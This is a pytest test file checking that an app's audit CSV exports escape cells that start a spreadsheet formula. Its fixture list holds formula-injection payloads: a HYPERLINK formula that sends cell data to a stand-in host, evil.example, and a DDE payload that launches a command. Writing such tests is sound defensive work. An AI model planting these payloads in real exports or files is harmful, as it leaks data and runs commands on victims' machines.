"""Audit CSV exports open in a spreadsheet as data: no cell runs as a formula (OWASP)."""

import csv
import io
import json

import pytest

from reviewapp.domain import audit
from reviewapp.extensions import db
from reviewapp.rules.limits import MAX_ID
from reviewapp.rules.states import Role
from reviewapp.text.spreadsheet import safe_cell

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_events(make_user) -> list[str]:
    """Record one event per formula start, in its message and its actor's name."""
    for message in HOSTILE:
        actor = make_user(Role.CONTRIBUTOR, name=message)
        audit.record(actor, "test.hostile", message=message)
    db.session.commit()
    return HOSTILE


def hostile_rows(text: str) -> list[dict[str, str]]:
    return [row for row in csv.DictReader(io.StringIO(text)) if row["action"] == "test.hostile"]


def assert_escaped(rows: list[dict[str, str]]) -> None:
    assert sorted(row["message"] for row in rows) == sorted("'" + m for m in HOSTILE)
    for row in rows:
        assert row["actor_label"].startswith("'")
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_cli_csv_export_escapes_cells_that_start_a_formula(runner, hostile_events):
    result = runner.invoke(args=["audit", "export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = hostile_rows(result.stdout)
    assert len(rows) == len(HOSTILE)
    assert_escaped(rows)


def test_cli_jsonl_export_keeps_values_as_they_are(runner, hostile_events):
    result = runner.invoke(args=["audit", "export", "--format", "jsonl"])
    assert result.exit_code == 0, result.output
    events = [json.loads(line) for line in result.stdout.splitlines()]
    messages = [event["message"] for event in events if event["action"] == "test.hostile"]
    assert messages == HOSTILE


def test_cli_export_refuses_an_after_id_beyond_the_range(runner):
    result = runner.invoke(args=["audit", "export", "--after", str(MAX_ID + 1)])
    assert result.exit_code == 2
    assert f"{MAX_ID + 1} is not in the range 0<=x<={MAX_ID}" in result.output


def test_board_csv_download_escapes_cells_that_start_a_formula(
    client, make_user, login, hostile_events
):
    login(make_user(Role.BOARD))
    response = client.get("/board/audit/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = hostile_rows(response.text)
    assert len(rows) == len(HOSTILE)
    assert_escaped(rows)
    kept = client.get("/board/audit/export.json").json
    assert sorted(e["message"] for e in kept if e["action"] == "test.hostile") == sorted(HOSTILE)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        ("", ""),
        ("{}", "{}"),
        (None, None),
        (-5, -5),
        (42, 42),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
